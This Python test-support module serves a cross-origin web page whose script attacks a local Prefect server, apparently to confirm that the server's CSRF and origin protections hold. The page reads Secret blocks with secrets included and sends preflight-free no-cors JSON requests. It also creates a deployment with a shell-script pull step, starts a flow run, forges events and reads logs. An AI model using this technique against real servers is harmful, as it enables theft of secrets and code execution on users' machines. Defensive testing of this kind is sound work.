"""A web page of another origin that tries, in a user's browser, to take over a Prefect server on that machine.

This module serves the page; tests check the results of its attack.
"""

import json
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any, NamedTuple

PAGE = """<!doctype html><title>a page</title><script>
const quick = (promise) => Promise.race([promise, new Promise((_, no) => setTimeout(() => no("silence"), 5000))]);

async function ask(url, options) {
  try {
    const answer = await quick(fetch(url, options));
    return `${answer.type} ${answer.status} ${await answer.text()}`;
  } catch (error) { return "nothing"; }
}

function socket(url, message) {
  return quick(new Promise((done) => {
    const opened = new WebSocket(url);
    let heard = "";
    opened.onopen = () => { heard += "open "; opened.send(message); setTimeout(() => done(heard), 2000); };
    opened.onmessage = (event) => { heard += event.data; };
    opened.onerror = () => done("nothing");
  })).catch(() => "nothing");
}

async function attack(api, requests, sockets) {
  const answers = [];
  const token = await ask(`${api}/csrf-token?client=page`);
  answers.push(token);
  const found = token.match(/"token":"(\\w+)"/);
  const own = {"content-type": "application/json", "Prefect-Csrf-Client": "page"};
  if (found) own["Prefect-Csrf-Token"] = found[1];
  for (const [path, body] of requests) {
    const options = body === null ? {} : {method: "POST", body: JSON.stringify(body)};
    answers.push(await ask(api + path, body === null ? {} : {...options, headers: own}));
    // Without a type the server takes it for JSON, and the browser asks nobody before it sends it.
    answers.push(await ask(api + path, {...options, mode: "no-cors", body: options.body && new Blob([options.body])}));
  }
  for (const [path, message] of sockets)
    answers.push(await socket(api.replace("http", "ws") + path, JSON.stringify(message)));
  return answers;
}
</script>"""


class Loot(NamedTuple):
    """Facts about the victim that the page is given, so that only the server's own protection can stop it."""

    api: str
    block: str
    """Id of a Secret block."""
    flow: str
    deployment: str
    """Ids."""
    marker: str
    """File that its deployment would make."""

    @property
    def requests(self) -> list[tuple[str, Any]]:
        """Paths and request bodies; None: a GET request."""
        script = {"prefect.deployments.steps.run_shell_script": {"script": f"touch {self.marker}"}}
        mine = {"name": "mine", "flow_id": self.flow, "pull_steps": [script], "entrypoint": "mine.py:mine"}
        return [
            (f"/block_documents/{self.block}?include_secrets=true", None),
            ("/block_documents/filter", {"include_secrets": True}),
            ("/deployments/", mine),
            (f"/deployments/{self.deployment}/create_flow_run", {"name": "mine"}),
        ]

    @property
    def sockets(self) -> list[tuple[str, Any]]:
        """Paths and the first message to send."""
        return [("/events/in", forged_event()), ("/logs/out", {"type": "filter", "filter": {}})]


def forged_event() -> dict[str, Any]:
    """Return an event about a drop that never happened."""
    return {
        "occurred": "2026-11-22T10:00:00Z",
        "event": "jury.regression",
        "resource": {"prefect.resource.id": "forged"},
        "related": [],
        "payload": {},
        "id": "00000000-0000-0000-0000-00000000f0f0",
    }


@contextmanager
def foreign_page() -> Iterator[str]:
    """Serve the page; yield its address."""

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            self.send_response(200)
            self.send_header("content-type", "text/html")
            self.end_headers()
            self.wfile.write(PAGE.encode())

        def log_message(self, *_: object) -> None:
            """Log nothing."""

    with ThreadingHTTPServer(("127.0.0.1", 0), Handler) as server:
        serving = threading.Thread(target=server.serve_forever, args=(0.05,), daemon=True)
        serving.start()
        try:
            yield f"http://127.0.0.1:{server.server_port}/"
        finally:
            server.shutdown()
            serving.join()


def attacked(page: Any, address: str, loot: Loot) -> list[str]:
    """Return the responses that the page gets from the server in a tab."""
    page.goto(address)
    arguments = json.dumps([loot.api, loot.requests, loot.sockets])
    return page.evaluate(f"attack(...{arguments})")
